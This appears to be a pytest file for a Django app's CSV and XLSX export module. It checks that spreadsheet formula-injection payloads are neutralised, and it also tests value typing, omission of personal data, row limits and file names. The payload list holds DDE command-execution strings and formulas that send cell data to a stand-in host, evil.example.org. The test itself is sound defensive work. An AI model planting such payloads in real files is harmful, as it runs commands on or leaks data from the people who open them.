"""Lists to take away: no text becomes a formula in any program (E3), numbers and days stay what they are."""

import csv
import io
import unicodedata
from collections.abc import Iterator
from datetime import UTC, date, datetime, time
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from django.utils import translation

from miteinander.core import exports
from miteinander.core.exports import Column, Form, Listing
from miteinander.core.verdicts import Refused

AT = datetime(2026, 3, 18, 9, tzinfo=UTC)
CALC = "=cmd|' /C calc'!A0"
# Each would run, fetch, or shift a border in some program.
PAYLOADS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", CALC, "=HYPERLINK(\"https://evil.example.org/?\"&A1,\"hier\")",
    "=WEBSERVICE(\"https://evil.example.org/\"&A1)", "=IMPORTXML(\"https://evil.example.org\",\"//a\")", "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\x00=1+1", "\x0b=1+1", " =1+1", "   +1+1",
    "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\u2060=1+1", "\ufeff=1+1", "\u202e=1+1", "\"=1+1", "'\"=1+1", "„=1+1“", "''=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "﹦1+1", "﹢1+1", "﹣1+1", "﹫SUM(1+1)", "\"\"=1+1", "a;=1+1", "a,=1+1", "a\t=1+1", "a|=1+1",
    "a\";=1+1;\"", "a\";\"=1+1", "a\n=1+1", "a\r\n\"=1+1", ",,=1+1", ";\";=1+1", "DDE=1;=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "\u00ad=1+1", "\u180e=1+1", "=\u200b1+1", "Kim,\u00a0=1+1",
)  # fmt: skip
QUIET = (
    "Kim Muster",
    "K7Q3-MF2X",
    "Gesamtschule am Kanal",
    "Frau Çelik-Öztürk",
    "10:30 – 11:15",
    "a-b+c=d@e",
    "schule@example.org",
    "’s Hof",
)
SEPARATORS = (";", ",", "\t", "|", ";,\t|")


def listing(**more: Any) -> Listing:
    return Listing(code="probe", title="Probe", columns=(Column("Text", lambda row: row),), **more)


def cells(raw: bytes, separators: str = ";") -> Iterator[str]:
    """What a spreadsheet makes of a CSV file when these signs are borders (LibreOffice lets people tick several)."""
    text = raw.decode("utf-8-sig")
    if len(separators) > 1:
        for sign in separators[1:]:
            text = text.replace(sign, separators[0])
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separators[0]):
        yield from row


def lives(cell: str) -> bool:
    """Would some spreadsheet take this cell for a formula? Leading blanks, hidden signs and quotation marks are forgiven."""
    bare = cell.lstrip('"„“”«»‚‘’`´')
    while bare and (bare[0].isspace() or unicodedata.category(bare[0]) in {"Cc", "Cf", "Mn"} or bare[0] in '"„“”'):
        bare = bare[1:]
    return unicodedata.normalize("NFKC", bare[:1]) in {"=", "+", "-", "@"}


def plainly(rows: list[str]) -> bytes:
    """The control: the same file as most programs write it."""
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=";").writerows([row] for row in rows)
    return out.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize("separators", SEPARATORS)
def test_csv_holds_no_formula_whatever_is_taken_for_a_border(separators: str) -> None:
    taken = exports.sheet(listing=listing(), rows=PAYLOADS, personal=True)
    assert [cell for cell in cells(exports.as_csv(taken), separators) if lives(cell)] == []


def test_control_a_plain_csv_lets_them_live() -> None:
    assert sum(map(lives, cells(plainly(list(PAYLOADS))))) > 30
    assert sum(map(lives, cells(plainly(list(PAYLOADS)), ","))) > 30


def test_heads_are_texts_too() -> None:
    column = Column("=1+1", lambda row: row)
    taken = exports.sheet(listing=Listing(code="p", title="=1+1", columns=(column,)), rows=["a"], personal=True)
    assert not any(map(lives, cells(exports.as_csv(taken))))
    assert all(cell.data_type != "f" for row in opened(taken).active.iter_rows() for cell in row)


@pytest.mark.parametrize("text", QUIET)
def test_what_is_no_formula_stays_as_it_was_written(text: str) -> None:
    assert exports.harmless(text) == text
    assert list(cells(exports.as_csv(exports.sheet(listing=listing(), rows=[text], personal=True))))[1] == text


def opened(taken: exports.Sheet) -> Any:
    raw = exports.as_xlsx(taken, told={"Liste": "=1+1", "Zeilen": 3}, at=AT)
    return openpyxl.load_workbook(io.BytesIO(raw))


def test_workbook_holds_no_formula_and_keeps_the_text() -> None:
    book = opened(exports.sheet(listing=listing(), rows=PAYLOADS, personal=True))
    kinds = {cell.data_type for page in book for row in page.iter_rows() for cell in row}
    assert kinds <= {"s", "n"}
    written = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert all(cell.quotePrefix for cell in written)  # stays a text when somebody edits the cell
    assert written[0].value == "=1+1"
    assert not any(cell.hyperlink for cell in written)


def test_control_a_plain_workbook_lets_them_live() -> None:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        page = book.add_worksheet()
        for number, payload in enumerate(one for one in PAYLOADS if one.isprintable()):
            page.write(number, 0, payload)
    found = openpyxl.load_workbook(out).active
    assert sum(cell.data_type == "f" for row in found.iter_rows() for cell in row) >= 5


VALUES = (
    3,
    Decimal("1.50"),
    -2,
    date(2026, 3, 18),
    datetime(2026, 3, 18, 9, 30, tzinfo=UTC),
    time(8, 5),
    True,
    None,
    ["b", "a"],
)


def test_numbers_days_and_times_are_typed() -> None:
    columns = tuple(Column(str(at), lambda row, at=at: row[at]) for at in range(len(VALUES)))
    with translation.override("de"):
        taken = exports.sheet(listing=Listing(code="p", title="p", columns=columns), rows=[VALUES], personal=True)
        assert list(cells(exports.as_csv(taken)))[len(VALUES) :] == [
            "3", "1,50", "-2", "18.03.2026", "18.03.2026 10:30", "08:05", "ja", "", "a, b",
        ]  # fmt: skip
        page = opened(taken).active
    row = [cell.value for cell in page[2]]
    assert row == [3, 1.5, -2, datetime(2026, 3, 18), datetime(2026, 3, 18, 10, 30), time(8, 5), "ja", None, "a, b"]
    assert [page[2][at].is_date for at in (3, 4, 5)] == [True, True, True]
    assert page.freeze_panes == "A2"
    assert page.column_dimensions["A"].width


def test_csv_begins_with_its_mark_and_keeps_one_line_per_row() -> None:
    raw = exports.as_csv(exports.sheet(listing=listing(), rows=["zwei\nZeilen", 'sagt "ja"'], personal=True))
    assert raw == '\ufeff"Text"\r\n"zwei Zeilen"\r\n"sagt ""ja"""\r\n'.encode()


def test_without_persons_their_columns_are_gone_and_protected_rows_always() -> None:
    columns = (Column("Ort", lambda row: row[0]), Column("Name", lambda row: row[1], personal=True))
    one = Listing(code="p", title="p", columns=columns, protected=lambda row: row[0] == "Frauenhaus")
    rows = [("Schule", "Kim"), ("Frauenhaus", "Tine")]
    without, whole = (exports.sheet(listing=one, rows=rows, personal=personal) for personal in (False, True))
    assert (without.heads, without.rows, without.left_out) == (("Ort",), [("Schule",)], 1)
    assert (whole.rows, whole.left_out) == ([("Schule", "Kim")], 1)


def test_a_list_that_is_too_long_is_refused_in_a_sentence(settings: Any) -> None:
    settings.EXPORT_ROWS = 2
    assert len(exports.sheet(listing=listing(), rows=["a", "b"], personal=True).rows) == 2
    with translation.override("de"), pytest.raises(Refused, match="höchstens 2 Zeilen"):
        exports.sheet(listing=listing(), rows=["a", "b", "c"], personal=True)


def test_file_names_are_ascii() -> None:
    day = date(2026, 3, 18)
    assert (
        exports.file_name("Anfragen für Köln/Süd", form=Form.CSV, day=day) == "Anfragen-fuer-Koeln-Sued-2026-03-18.csv"
    )
    assert exports.file_name("قائمة", form=Form.XLSX, day=day) == "Liste-2026-03-18.xlsx"
